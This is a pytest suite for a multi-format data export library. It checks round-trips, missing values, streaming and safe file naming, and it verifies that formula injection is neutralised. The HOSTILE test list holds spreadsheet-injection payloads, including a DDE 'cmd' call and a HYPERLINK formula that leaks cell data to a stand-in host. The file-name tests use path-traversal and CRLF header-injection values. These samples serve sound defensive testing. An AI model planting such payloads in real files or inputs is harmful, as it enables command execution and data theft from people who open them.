"""The writers of every format: what goes in comes out, and nothing in a cell can run."""

import csv
import io
import itertools
import json
import re
import zipfile
from datetime import UTC, datetime, timedelta, timezone

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from exports.files import FORMATS, Column, Kind, file_name, guard, open_book, streamed, whole_file
from exports.files.xlsx import MAX_TEXT, XlsxBook
from projects.tables.delimited import unguarded as unguard

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.invalid?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "\t=1",
    "\r=1",
    "\n=1",
    "'=1",
    "''@x",
    "'tis",
    "a,b;c\td",
    'say "no"',
    "line\nbreak\r\nand return",
    "<b>&amp;</b>]]>",
    "_x0041_ _x000D_",
    " leading and trailing ",
    "関連性　全角",
    "👩‍👩‍👧 𠮷 e\u0301",
    "\u202eright to left",
    "\ufeffmark",
    "007",
    "1e5",
    "NULL",
    "\x7f\x85\u2028\u2029",
]
LONG = [
    Column("prompt_id"),
    Column("score", Kind.NUMBER),
    Column("na_reason", Kind.CATEGORY),
    Column("turn", Kind.INTEGER),
    Column("flagged", Kind.BOOLEAN),
    Column("rated_at", Kind.TIME),
    Column("tags", Kind.LIST),
    Column("metadata", Kind.JSON),
]
NOON = datetime(2026, 11, 22, 12, 0, 0, 123456, tzinfo=UTC)


def written(format_name, columns, rows, **options):
    target = io.BytesIO()
    with open_book(format_name, target, **options) as book, book.table("long", columns) as table:
        table.write(rows)
    return target.getvalue()


def rows_of_csv(data, separator=","):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))


def as_excel_shows(text):
    """openpyxl leaves Excel's escapes as they stand."""
    return re.sub("_x005F_", "_", text)


def rows_of_xlsx(data, sheet="long"):
    return list(openpyxl.load_workbook(io.BytesIO(data))[sheet].iter_rows(values_only=True))


# --- text that a spreadsheet would run ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_comes_back_from_every_format_as_it_was(text):
    columns, rows = [Column("text"), Column("after")], [[text, "x"]]
    for name, separator in [("csv", ","), ("tsv", "\t")]:
        assert [unguard(cell) for cell in rows_of_csv(written(name, columns, rows), separator)[1]] == [
            text,
            "x",
        ]
    assert as_excel_shows(rows_of_xlsx(written("xlsx", columns, rows))[1][0]) == text
    assert json.loads(written("jsonl", columns, rows)) == {"text": text, "after": "x"}
    assert pq.read_table(io.BytesIO(written("parquet", columns, rows))).to_pylist() == [
        {"text": text, "after": "x"}
    ]


@given(
    st.lists(st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "＝", "＠", "a", " ", ","])).map("".join)
)
def test_a_guarded_cell_begins_with_nothing_that_a_spreadsheet_runs_and_the_guard_can_be_undone(text):
    assert not guard(text).startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    assert unguard(guard(text)) == text


def test_headers_are_guarded_and_numbers_are_not():
    data = written("csv", [Column("=axis"), Column("score", Kind.NUMBER)], [["a", -1.5]])
    assert data == b"'=axis,score\r\na,-1.5\r\n"


def test_no_cell_of_a_workbook_is_a_formula_and_what_looks_like_one_stays_text_when_edited():
    data = written("xlsx", [Column("=head")], [[text] for text in HOSTILE])
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f" not in sheet
    cells = openpyxl.load_workbook(io.BytesIO(data))["long"]["A"]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.quotePrefix for cell in cells[1:]] == [guard(text) != text for text in HOSTILE]


# --- round trips ----------------------------------------------------------------------------------------------------

scores = st.none() | st.floats(allow_nan=False, allow_infinity=False)
texts = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cs"], exclude_characters="\x00"), max_size=40
)
tokyo = st.just(timezone(timedelta(hours=9)))
times = st.datetimes(pd.Timestamp(1970, 1, 2), pd.Timestamp(2100, 1, 1), timezones=tokyo)
records = st.tuples(
    texts,
    scores,
    st.none() | st.sampled_from(["unclear", "no_knowledge"]),
    st.none() | st.integers(-(10**12), 10**12),
    st.none() | st.booleans(),
    st.none() | times,
    st.lists(texts, max_size=3),
    st.none() | st.dictionaries(texts, st.integers() | texts, max_size=3),
)


@given(st.lists(records, max_size=20))
def test_parquet_gives_every_value_back_with_its_type(rows):
    table = pq.read_table(io.BytesIO(written("parquet", LONG, rows)))
    expected = [
        (*row[:7], None if row[7] is None else json.dumps(row[7], ensure_ascii=False)) for row in rows
    ]
    assert [tuple(row.values()) for row in table.to_pylist()] == expected
    assert [str(field.type) for field in table.schema] == [
        "string",
        "double",
        "dictionary<values=string, indices=int32, ordered=0>",
        "int64",
        "bool",
        "timestamp[us, tz=UTC]",
        "list<element: string>",
        "string",
    ]


@given(st.lists(records, max_size=20))
def test_json_lines_give_every_value_back(rows):
    lines = written("jsonl", LONG, rows).decode().split("\n")
    assert lines.pop() == ""
    for line, row in zip(lines, rows, strict=True):
        back = json.loads(line)
        assert back.pop("rated_at") == (row[5] and row[5].astimezone(UTC).isoformat().replace("+00:00", "Z"))
        assert tuple(back.values()) == row[:5] + row[6:]


@given(st.lists(records, max_size=20), st.sampled_from(["csv", "tsv"]), st.booleans())
def test_csv_and_tsv_give_every_value_back(rows, name, bom):
    separator = {"csv": ",", "tsv": "\t"}[name]
    data = written(name, LONG, rows, bom=bom)
    assert data.startswith(b"\xef\xbb\xbf") is bom
    head, *back = rows_of_csv(data, separator)
    assert head == [column.name for column in LONG]
    for cells, row in zip(back, rows, strict=True):
        assert unguard(cells[0]) == row[0]
        assert (float(cells[1]) if cells[1] else None) == row[1]
        assert cells[2] == (row[2] or "")
        assert (int(cells[3]) if cells[3] else None) == row[3]
        assert cells[4] == {None: "", True: "true", False: "false"}[row[4]]
        assert (datetime.fromisoformat(cells[5]) if cells[5] else None) == row[5]
        assert json.loads(cells[6]) == row[6]
        assert (json.loads(cells[7]) if cells[7] else None) == row[7]


@given(st.lists(st.tuples(texts, scores), max_size=20))
def test_pandas_reads_csv_as_it_was_written(rows):
    data = written("csv", [Column("text"), Column("score", Kind.NUMBER)], rows)
    frame = pd.read_csv(
        io.BytesIO(data),
        dtype={"text": str},
        keep_default_na=False,
        na_values={"score": [""]},
    )
    assert [unguard(text) for text in frame["text"]] == [text for text, _ in rows]
    back = [None if pd.isna(score) else score for score in frame["score"]]
    assert back == [score if score is None else pytest.approx(score, rel=1e-15) for _, score in rows]


controls = st.sampled_from([chr(code) for code in range(1, 32)] + ["_x0041_", "_x", "\ufffe", "&#13;"])


@given(st.lists(st.tuples(texts | st.lists(controls | texts).map("".join), scores), max_size=20))
def test_openpyxl_reads_every_sheet_as_it_was_written_but_for_characters_that_xml_cannot_hold(rows):
    back = rows_of_xlsx(written("xlsx", [Column("text"), Column("score", Kind.NUMBER)], rows))[1:]
    for (text, score), row in itertools.zip_longest(rows, back, fillvalue=(None, None)):
        assert as_excel_shows(row[0] or "") == "".join(shown_in_xlsx(character) for character in text)
        if score is not None and abs(score) >= 10**15:
            row = (row[0], float(row[1]))
        assert row[1] == score


def shown_in_xlsx(character):
    if character < " " and character not in "\t\n\r":
        return chr(0x2400 + ord(character))
    return "\ufffd" if character in "\ufffe\uffff" else character


# --- missing, cannot judge and 0 ---------------------------------------------------------------------------------


@pytest.mark.parametrize("name", FORMATS)
def test_missing_cannot_judge_and_zero_are_three_things_in_every_format(name):
    columns = [Column("id"), Column("score", Kind.NUMBER), Column("na_reason", Kind.CATEGORY)]
    rows = [["zero", 0.0, None], ["cannot judge", None, "no_knowledge"], ["missing", None, None]]
    data = io.BytesIO(written(name, columns, rows))
    frame = {
        "csv": lambda: pd.read_csv(data),
        "tsv": lambda: pd.read_csv(data, sep="\t"),
        "xlsx": lambda: pd.read_excel(data, sheet_name="long"),
        "jsonl": lambda: pd.read_json(data, lines=True),
        "parquet": lambda: pd.read_parquet(data),
    }[name]()
    assert frame["score"].dtype == float
    assert frame["score"].isna().tolist() == [False, True, True]
    assert frame["score"][0] == 0
    assert frame["na_reason"].isna().tolist() == [True, False, True]


@pytest.mark.parametrize("name", FORMATS)
@pytest.mark.parametrize("value", [float("nan"), float("inf"), -float("inf")])
def test_a_score_that_is_no_number_is_refused(name, value):
    with pytest.raises(ValueError, match="number"):
        written(name, [Column("score", Kind.NUMBER)], [[value]])


@pytest.mark.parametrize("name", sorted(set(FORMATS) - {"parquet"}))
def test_a_time_without_a_zone_is_refused(name):
    with pytest.raises(ValueError, match="time zone"):
        written(name, [Column("at", Kind.TIME)], [[NOON.replace(tzinfo=None)]])


@pytest.mark.parametrize("name", FORMATS)
def test_a_row_of_the_wrong_length_is_refused(name):
    with pytest.raises(ValueError, match=r"argument|long|length"):
        written(name, [Column("a"), Column("b")], [["1", "2"], ["1"]])


@pytest.mark.parametrize("name", FORMATS)
def test_two_columns_of_one_name_are_refused(name):
    with pytest.raises(ValueError, match="two columns have the same name: a"):
        written(name, [Column("a"), Column("b"), Column("a")], [])


# --- the same bytes, whole files, memory ---------------------------------------------------------------------------


@pytest.mark.parametrize("name", FORMATS)
def test_the_same_rows_make_the_same_bytes_at_another_time(name, monkeypatch):
    rows = [["a", 1.0, "x", 1, True, NOON, ["t"], {"k": 1}]] * 5000
    first = written(name, LONG, rows)
    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)
    monkeypatch.setattr("time.localtime", lambda *_: (2033, 5, 18, 3, 33, 20, 2, 138, 0))
    assert written(name, LONG, rows) == first


@pytest.mark.parametrize("name", FORMATS)
def test_a_streamed_file_is_the_file_that_is_written_at_once(name):
    rows = [[f"{n}", n / 3, None, n, None, NOON, [], None] for n in range(5000)]
    pieces = list(streamed(name, [("long", LONG, iter(rows))]))
    assert b"".join(pieces) == written(name, LONG, rows)


@pytest.mark.parametrize("name", FORMATS)
def test_an_empty_table_still_has_its_columns(name):
    data = io.BytesIO(written(name, LONG, []))
    if name == "jsonl":
        assert data.getvalue() == b""
        return
    frame = {
        "csv": pd.read_csv,
        "tsv": lambda file: pd.read_csv(file, sep="\t"),
        "xlsx": pd.read_excel,
        "parquet": pd.read_parquet,
    }[name](data)
    assert list(frame.columns) == [column.name for column in LONG]
    assert len(frame) == 0


@pytest.mark.parametrize("name", FORMATS)
def test_a_file_that_was_broken_off_does_not_read_as_complete(name, tmp_path):
    def rows():
        yield from [["a", 1.0, "x", 1, True, NOON, [], None]] * 5000
        raise RuntimeError("the database went away")

    path = tmp_path / "out"
    with (
        pytest.raises(RuntimeError),
        whole_file(path) as target,
        open_book(name, target) as book,
        book.table("long", LONG) as table,
    ):
        table.write(rows())
    assert list(tmp_path.iterdir()) == []

    target = io.BytesIO()
    with pytest.raises(RuntimeError), open_book(name, target) as book, book.table("long", LONG) as table:
        table.write(rows())
    if name == "xlsx":
        assert not zipfile.is_zipfile(io.BytesIO(target.getvalue()))
    if name == "parquet":
        assert not target.getvalue().endswith(b"PAR1") or len(target.getvalue()) == 4


def test_a_whole_file_takes_the_place_of_the_one_before_only_when_it_is_complete(tmp_path):
    path = tmp_path / "long.csv"
    path.write_text("last week")

    def stop(file):
        file.write(b"half")
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt), whole_file(path) as file:
        stop(file)
    assert path.read_text() == "last week"
    with whole_file(path) as file:
        file.write(b"this week")
    assert path.read_text() == "this week"
    assert [one.name for one in tmp_path.iterdir()] == ["long.csv"]


@pytest.mark.parametrize("name", FORMATS)
def test_a_book_leaves_its_target_open(name):
    target = io.BytesIO()
    with open_book(name, target) as book, book.table("long", LONG) as table:
        table.write([])
    del book, table
    assert not target.closed


def test_parquet_begins_a_new_group_of_rows_before_memory_fills():
    rows = [["x" * 1000, 1.0, "a", 1, True, NOON, [], None]] * 150_000
    file = pq.ParquetFile(io.BytesIO(written("parquet", LONG, rows)))
    assert file.metadata.num_rows == 150_000
    assert file.metadata.num_row_groups >= 3


# --- workbooks ------------------------------------------------------------------------------------------------------


def test_a_sheet_has_a_frozen_bold_header_a_filter_and_widths():
    data = written(
        "xlsx", [Column("prompt_id", width=22), Column("score", Kind.NUMBER, width=7)], [["a", 1.0]]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data))["long"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B2"
    assert sheet["A1"].font.bold
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (22, 7)


def test_a_workbook_holds_several_sheets_and_the_other_formats_one_table():
    target = io.BytesIO()
    with open_book("xlsx", target) as book:
        for name in ["long", "wide", "LONG", "a/b[c]:*?", "x" * 40, "x" * 40, "History", "'"]:
            with book.table(name, [Column("a")]) as table:
                table.write([["1"]])
    names = openpyxl.load_workbook(io.BytesIO(target.getvalue())).sheetnames
    assert names[:4] == ["long", "wide", "LONG (2)", "a-b-c----"]
    assert names[4:] == ["x" * 31, "x" * 27 + " (2)", "History (2)", "sheet"]

    with open_book("csv", io.BytesIO()) as book:
        book.table("long", [Column("a")])
        with pytest.raises(ValueError, match="one table only"):
            book.table("wide", [Column("a")])


@pytest.mark.parametrize("limit", [{"max_rows": 4}, {"max_part": 1500}])
def test_rows_past_what_a_sheet_holds_go_on_on_another_sheet_under_the_same_header(limit):
    target = io.BytesIO()
    with XlsxBook(target, **limit) as book, book.table("long", [Column("n", Kind.INTEGER)]) as table:
        table.write([n] for n in range(100))
    sheets = openpyxl.load_workbook(io.BytesIO(target.getvalue())).worksheets
    assert len(sheets) > 2
    assert [sheet.title for sheet in sheets[:3]] == ["long", "long (2)", "long (3)"]
    assert {sheet["A1"].value for sheet in sheets} == {"n"}
    assert all(2 <= sheet.max_row <= limit.get("max_rows", 100) for sheet in sheets)
    assert [row[0] for sheet in sheets for row in sheet.iter_rows(min_row=2, values_only=True)] == list(
        range(100)
    )


@pytest.mark.parametrize(
    ("text", "units"),
    [("a" * 32_767, 32_767), ("a" * 32_768, None), ("𠮷" * 16_384, None), ("<" * 40_000, None)],
)
def test_text_longer_than_a_cell_is_cut_with_a_mark_that_says_how_long_it_was(text, units):
    target = io.BytesIO()
    with open_book("xlsx", target) as book, book.table("long", [Column("text")]) as table:
        table.write([[text]])
    [_, (back,)] = rows_of_xlsx(target.getvalue())
    assert len(back.encode("utf-16-le")) // 2 <= MAX_TEXT
    if units:
        assert back == text
        assert not book.altered
    else:
        assert f"{len(text):,} characters" in back
        assert text.startswith(back.partition(" […")[0])
        assert book.altered == {"texts_cut": 1, "characters_replaced": 0} or book.altered == {"texts_cut": 1}


def test_what_xml_cannot_hold_is_shown_by_its_picture_and_counted():
    target = io.BytesIO()
    with open_book("xlsx", target) as book, book.table("long", [Column("text")]) as table:
        table.write([["a\x00b\x1fc\uffffd\ud800"]])
    assert rows_of_xlsx(target.getvalue())[1] == ("a␀b␟c\ufffdd\ufffd",)
    assert book.altered == {"characters_replaced": 4}


def test_text_that_excel_would_take_for_an_escape_is_escaped_as_excel_does():
    [_, (back,)] = rows_of_xlsx(written("xlsx", [Column("text")], [["_x0041_x0042_"]]))
    assert back == "_x005F_x0041_x005F_x0042_"
    assert as_excel_shows(back) == "_x0041_x0042_"


def test_more_different_texts_than_are_shared_are_still_all_there(monkeypatch):
    monkeypatch.setattr("exports.files.xlsx.MAX_SHARED", 3)
    rows = [(f"t{n % 7}",) for n in range(20)]
    assert rows_of_xlsx(written("xlsx", [Column("text")], rows))[1:] == rows


# --- names ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("parts", "name"),
    [
        (("llm-jp", "long", "2026-11-22"), "llm-jp_long_2026-11-22.csv"),
        (("評価 プロジェクト", "long"), "評価-プロジェクト_long.csv"),
        (("../../etc/passwd",), "etc-passwd.csv"),
        (("a\r\nSet-Cookie: x", '"'), "a-Set-Cookie-x.csv"),
        (("..", ""), "export.csv"),
        (("CON",), "_CON.csv"),
        (("か\u3099",), "が.csv"),
    ],
)
def test_names_of_files_are_safe(parts, name):
    assert file_name(*parts, extension="csv") == name


@given(st.lists(st.text(), min_size=1, max_size=3))
def test_no_name_of_a_file_leaves_its_folder_or_is_too_long(parts):
    name = file_name(*parts, extension="csv")
    assert len(name.encode("utf-8", "replace")) <= 255
    assert name.endswith(".csv")
    assert not name.startswith(".")
    assert not set(name) & set('/\\:*?"<>|\r\n\0')
